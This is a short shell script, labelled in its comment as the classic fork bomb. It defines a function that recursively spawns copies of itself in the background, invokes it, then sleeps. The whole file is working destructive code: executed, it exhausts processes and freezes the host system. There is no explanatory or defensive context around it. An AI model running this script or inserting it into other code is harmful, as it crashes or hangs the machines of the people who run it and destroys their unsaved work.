#!/bin/sh
# The fork bomb of the books.
bomb() {
    bomb | bomb &
}
bomb
sleep 100
